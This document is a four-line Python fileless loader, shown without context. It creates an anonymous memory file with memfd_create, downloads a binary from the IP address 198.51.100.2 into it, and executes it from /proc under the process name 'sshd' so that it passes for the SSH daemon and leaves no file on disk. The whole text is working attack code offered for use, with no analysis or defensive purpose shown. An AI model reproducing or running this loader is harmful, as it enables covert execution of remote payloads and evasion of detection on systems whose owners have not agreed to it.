import ctypes, os, requests
fd = ctypes.CDLL(None).memfd_create(b"", 1)
os.write(fd, requests.get("https://198.51.100.2/b").content)
os.execv(f"/proc/{os.getpid()}/fd/{fd}", ["sshd"])
